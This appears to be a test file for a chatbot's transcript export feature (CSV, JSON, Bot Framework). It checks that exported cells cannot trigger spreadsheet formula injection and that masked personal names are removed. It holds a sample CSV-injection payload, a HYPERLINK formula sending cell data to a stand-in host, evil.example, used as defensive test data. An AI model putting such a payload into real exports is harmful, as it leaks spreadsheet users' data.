import { expect } from 'chai';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import type { Messages } from '../../src/core/messages.ts';
import { messageNames } from '../../src/core/messages.ts';
import type { Stores } from '../../src/storage/open.ts';
import { toBotTranscript } from '../../src/transcripts/bot-transcript.ts';
import { safeCell } from '../../src/transcripts/cells.ts';
import {
  type ExportedConversation,
  maskExported,
  readExported,
} from '../../src/transcripts/exported.ts';
import { toJson } from '../../src/transcripts/json.ts';
import { type TableKind, toCsv } from '../../src/transcripts/tables.ts';
import { createSqlite, type TestDatabase } from '../helpers/databases.ts';
import { answeredTurn, bookingTurn, conversationAt, NOON } from '../helpers/turns.ts';

const FORMULA = '=HYPERLINK("https://evil.example?"&A1,"click")';

function messages(): Messages {
  const named = Object.fromEntries(messageNames.map((name) => [name, `(${name})`]));
  const isWhole = (some: Record<string, string>): some is Messages =>
    messageNames.every((name) => name in some);
  if (!isWhole(named)) throw new Error('a message is missing');
  return named;
}

async function textOf(pieces: AsyncIterable<string>): Promise<string> {
  let text = '';
  for await (const piece of pieces) text += piece;
  return text;
}

async function* each<T>(values: readonly T[]): AsyncGenerator<T> {
  yield* values;
}

describe('Exported conversations', () => {
  let database: TestDatabase;
  let stores: Stores;

  beforeEach(async () => {
    database = await createSqlite();
    stores = await database.openBoth();
    const { store } = stores;
    await store.saveTurn(answeredTurn(conversationAt('c1', 1), 'm1', FORMULA));
    await store.saveTurn(bookingTurn(conversationAt('c1', 2), 'm2', 'DN-7F3K'));
    const later = { ...conversationAt('c2', 1), lastAt: NOON + 86_400_000 };
    await store.saveTurn(answeredTurn(later, 'm1', 'is it sore, or "tight"?\nand why'));
  });
  afterEach(() => database.drop());

  async function all(filter = {}): Promise<readonly ExportedConversation[]> {
    const found: ExportedConversation[] = [];
    for await (const one of readExported(stores, filter)) found.push(one);
    return found;
  }

  async function rows(kind: TableKind, of?: readonly ExportedConversation[]) {
    const text = await textOf(toCsv(kind, each(of ?? (await all()))));
    const parsed: Record<string, string>[] = parse(text, { bom: true, columns: true });
    return parsed;
  }

  it('are read in the order of the list, whole, as a filter lets them through', async () => {
    const found = await all();
    expect(found.map(({ summary }) => summary.id)).to.deep.equal(['c2', 'c1']);
    const [, first] = found;
    expect(first?.lines.map(({ sequence }) => sequence)).to.deep.equal([1, 2, 3, 4, 5]);
    expect(first?.turns.map(({ decision }) => decision.kind)).to.deep.equal(['answer', 'flow']);
    expect((await all({ booked: true })).map(({ summary }) => summary.id)).to.deep.equal(['c1']);
  });

  it('go on behind the first page of the list and of a long conversation', async () => {
    for (let index = 0; index < 60; index += 1) {
      await stores.store.saveTurn(answeredTurn(conversationAt(`d${index}`, 1), 'm1', 'sore?'));
    }
    for (let version = 2; version <= 200; version += 1) {
      await stores.store.saveTurn(
        answeredTurn(conversationAt('d0', version), `m${version}`, 'so?'),
      );
    }
    const found = await all();
    expect(new Set(found.map(({ summary }) => summary.id)).size).to.equal(62);
    const long = found.find(({ summary }) => summary.id === 'd0');
    expect([long?.lines.length, long?.turns.length]).to.deep.equal([600, 200]);
  });

  it('are one row each in a table of conversations', async () => {
    const [, row] = await rows('conversations');
    expect(row).to.include({
      conversation: 'c1',
      started: '2026-11-22T12:00:00.000Z',
      turns: '2',
      opening: `'${FORMULA}`,
      endings: 'answer flow',
      entries: 'soreness-how-long',
      booked: 'true',
    });
  });

  it('are one row a message in a table of messages, reasons beside the question', async () => {
    const [question, answer] = await rows('messages');
    expect(question).to.include({
      author: 'visitor',
      text: 'is it sore, or "tight"?\nand why',
      ending: 'answer',
      about: 'soreness-how-long',
      confidence: '0.93',
      content_version: 'c0ffee',
    });
    expect(answer).to.include({ author: 'assistant', entry: 'soreness-how-long', ending: '' });
  });

  it('have no cell that a spreadsheet would run, whatever was typed', async () => {
    const [one] = await all({ booked: true });
    if (!one) throw new Error('nothing was read');
    const nasty = fc
      .tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '＝', ''), fc.string())
      .map((parts) => parts.join(''));
    await fc.assert(
      fc.asyncProperty(nasty, async (text) => {
        const typed = maskExported(one, () => text);
        for (const kind of ['conversations', 'messages'] as const) {
          for (const cell of (await rows(kind, [typed])).flatMap(Object.values<string>)) {
            expect(cell).not.to.match(/^[=+\-@\t\r＝]/);
          }
        }
      }),
      { numRuns: 60 },
    );
  });

  it('have none in a spreadsheet that parts cells at other signs either', async () => {
    const [one] = await all();
    if (!one) throw new Error('nothing was read');
    const sign = fc.constantFrom(
      ';',
      '\t',
      '\n',
      '\r',
      '|',
      '=',
      '+',
      '-',
      '@',
      '"',
      ',',
      ' ',
      'a',
      '＝',
    );
    await fc.assert(
      fc.asyncProperty(fc.array(sign, { maxLength: 12 }), async (signs) => {
        const typed = maskExported(one, () => signs.join(''));
        const text = await textOf(toCsv('messages', each([typed])));
        for (const cell of text.split(/[;|\t\r\n]/)) expect(cell).not.to.match(/^\s*[=+\-@＝]/);
      }),
      { numRuns: 300 },
    );
  });

  it('take no longer than their words are long', () => {
    for (const piece of ['\n', '; ', ';=']) {
      expect(safeCell(piece.repeat(200_000))).to.match(/^[\s;'=]+$/);
    }
  });

  it('come back whole from JSON', async () => {
    const found = await all();
    const back: unknown = JSON.parse(await textOf(toJson(each(found))));
    const whole = found.map(({ summary, lines, turns }) => ({ ...summary, lines, turns }));
    expect(back).to.deep.equal(JSON.parse(JSON.stringify(whole)));
    expect(await textOf(toJson(each([])))).to.equal('[]\n');
  });

  it('are activities in a Bot Framework transcript', async () => {
    const [, one] = await all();
    if (!one) throw new Error('nothing was read');
    const activities: unknown = JSON.parse(toBotTranscript(one, messages()));
    expect(activities).to.be.an('array').with.length(5);
    if (!Array.isArray(activities)) return;
    expect(activities[0]).to.deep.include({
      type: 'message',
      text: FORMULA,
      timestamp: '2026-11-22T12:00:01.000Z',
      conversation: { id: 'c1' },
      from: { id: 'visitor', name: 'Visitor', role: 'user' },
    });
    expect(activities[1]).to.include({ replyToId: 'm1', textFormat: 'markdown' });
    expect(activities[1].text).to.include('(sources)');
    expect(activities[1].suggestedActions.actions[0]).to.deep.equal({
      type: 'imBack',
      title: 'Book',
      value: 'Book',
    });
    expect(new Set(activities.map(({ id }) => id)).size).to.equal(5);
  });

  it('say nothing that is masked, in any form', async () => {
    const [, one] = await all();
    if (!one) throw new Error('nothing was read');
    expect(one.names).to.deep.equal(['Ana Lim']);
    const masked = maskExported(one, () => '•');
    const forms = [
      await textOf(toJson(each([masked]))),
      await textOf(toCsv('conversations', each([masked]))),
      await textOf(toCsv('messages', each([masked]))),
      toBotTranscript(masked, messages()),
    ];
    for (const form of forms) {
      expect(form).not.to.match(/Ana Lim|HYPERLINK|yes, send it|running/);
    }
  });
});
